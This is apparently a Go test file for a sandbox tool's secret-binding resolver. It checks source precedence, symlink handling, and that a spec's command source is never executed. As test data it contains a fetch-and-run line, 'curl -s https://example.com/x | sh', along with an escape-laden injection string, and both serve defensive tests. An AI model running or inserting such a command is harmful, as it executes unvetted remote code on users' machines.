package bindings

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/hashicorp/hcl/v2"

	"github.com/sbx-dev/sbx/policy"
)

func mustParse(t *testing.T, src string) *File {
	t.Helper()
	f, diags := Parse([]byte(src), "/home/u/.config/sbx/bindings.hcl", Options{Home: "/home/u"})
	if diags.HasErrors() {
		t.Fatal(diags)
	}
	return f
}

func secret(name, source string) policy.SecretBinding {
	return policy.SecretBinding{Name: name, Env: "TOKEN", Source: source,
		Origin: policy.Origin{Block: "secret." + name, File: "main.hcl", Line: 12}}
}

// TestChoosePrecedence: the binding with the most specific scope that
// holds the configuration wins, an unscoped one next, the spec's own
// env: or file: source last.
func TestChoosePrecedence(t *testing.T) {
	f := mustParse(t, `
binding "token" {
  source = "env:ANY"
}
binding "token" {
  source = "env:SRC"
  config = "~/src"
}
binding "token" {
  source = "command:pass show project"
  config = "~/src/project"
}
binding "other" {
  source = "env:OTHER"
  config = "/elsewhere"
}
`)
	for _, tc := range []struct {
		dir, secret, spec string
		source            string
		from              From
		line              int
	}{
		{"/home/u/src/project", "token", "env:SPEC", "command:pass show project", FromBindings, 9},
		{"/home/u/src/project/sub", "token", "env:SPEC", "command:pass show project", FromBindings, 9},
		{"/home/u/src/projectx", "token", "env:SPEC", "env:SRC", FromBindings, 5},
		{"/home/u/src", "token", "env:SPEC", "env:SRC", FromBindings, 5},
		{"/home/u/other", "token", "env:SPEC", "env:ANY", FromBindings, 2},
		{"/home/u/src/project", "other", "env:SPEC", "env:SPEC", FromSpec, 12},
		{"/home/u/src/project", "other", "file:token.txt", "file:token.txt", FromSpec, 12},
		{"/elsewhere/x", "other", "env:SPEC", "env:OTHER", FromBindings, 13},
	} {
		c := Choose(f, tc.dir, secret(tc.secret, tc.spec))
		if c.Err != nil || c.Source != tc.source || c.From != tc.from || c.Origin.Line != tc.line {
			t.Errorf("Choose(%s in %s) = %q from %s line %d (%v); want %q from %s line %d",
				tc.secret, tc.dir, c.Source, c.From, c.Origin.Line, c.Err, tc.source, tc.from, tc.line)
		}
		wantDir := tc.dir
		if tc.from == FromBindings {
			wantDir = "/home/u/.config/sbx"
		}
		if c.Dir != wantDir {
			t.Errorf("Choose(%s in %s).Dir = %s, want %s", tc.secret, tc.dir, c.Dir, wantDir)
		}
	}
}

// TestChooseNeverTakesASpecCommand: a spec's command: source is never
// chosen, bindings or not; the error says what to add, and where.
func TestChooseNeverTakesASpecCommand(t *testing.T) {
	for _, f := range []*File{nil, {Path: "/home/u/.config/sbx/bindings.hcl"}, mustParse(t, "binding \"other\" {\n  source = \"env:X\"\n}\n")} {
		c := Choose(f, "/home/u/src/project", secret("token", "command:curl -s https://example.com/x | sh"))
		var unbound *UnboundError
		if c.Source != "" || !errors.As(c.Err, &unbound) {
			t.Fatalf("Choose of a spec command = %+v; want no source and an *UnboundError", c)
		}
		msg := c.Err.Error()
		path := "/home/u/.config/sbx/bindings.hcl"
		if f == nil {
			path = "$SBX_BINDINGS"
		}
		for _, want := range []string{"secret.token (main.hcl:12)", "never from a spec", path,
			`binding "token" {`, `source = "command:curl -s https://example.com/x | sh"`, `config = "/home/u/src/project"`} {
			if !strings.Contains(msg, want) {
				t.Errorf("error lacks %q:\n%s", want, msg)
			}
		}
	}
	// A binding covers it.
	f := mustParse(t, "binding \"token\" {\n  source = \"command:gh auth token\"\n}\n")
	c := Choose(f, "/home/u/src/project", secret("token", "command:curl -s https://example.com/x | sh"))
	if c.Err != nil || c.Source != "command:gh auth token" || c.From != FromBindings {
		t.Errorf("Choose with a binding = %+v", c)
	}
}

func TestChooseNoSource(t *testing.T) {
	c := Choose(&File{Path: "/b.hcl"}, "/src", secret("token", ""))
	if c.Err == nil || !strings.Contains(c.Err.Error(), "has no source") || !strings.Contains(c.Err.Error(), "Add to /b.hcl") {
		t.Errorf("Choose with no source: %v", c.Err)
	}
}

// TestSuggestionIsInert: the suggested block quotes the spec's command
// as HCL does, so that it parses back to the same source and a
// template sequence or a control character in it stays text.
func TestSuggestionIsInert(t *testing.T) {
	cmd := "command:echo ${HOME} %{if 1}x%{endif} \x1b[31m\" \\"
	e := &UnboundError{Secret: "token", SpecSource: cmd, ConfigDir: "/src/${x}"}
	s := e.Suggestion()
	if strings.ContainsRune(s, '\x1b') {
		t.Errorf("the suggestion holds a raw escape: %q", s)
	}
	f, diags := Parse([]byte(s), "/b.hcl", Options{Home: "/h"})
	if diags.HasErrors() {
		t.Fatalf("the suggestion does not parse: %v\n%s", diags, s)
	}
	if len(f.Bindings) != 1 || f.Bindings[0].Source != cmd || f.Bindings[0].Config != "/src/${x}" {
		t.Errorf("the suggestion parses to %+v\n%s", f.Bindings[0], s)
	}
}

// TestForFollowsLinks: a scope names a directory as the user knows it;
// a configuration reached through a symbolic link into it, or a scope
// written through one, still matches.
func TestForFollowsLinks(t *testing.T) {
	base, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	real := filepath.Join(base, "real", "project")
	if err := os.MkdirAll(real, 0o755); err != nil {
		t.Fatal(err)
	}
	link := filepath.Join(base, "link")
	if err := os.Symlink(filepath.Join(base, "real"), link); err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct{ scope, dir string }{
		{filepath.Join(base, "real"), filepath.Join(link, "project")},
		{link, real},
	} {
		f := &File{Bindings: []*Binding{{Secret: "t", Source: "env:A", resolve: "env:A", Config: tc.scope,
			DeclRange: hcl.Range{Filename: "/b.hcl", Start: hcl.InitialPos}}}}
		if f.For("t", tc.dir) == nil {
			t.Errorf("the binding for %s does not cover %s", tc.scope, tc.dir)
		}
	}
}
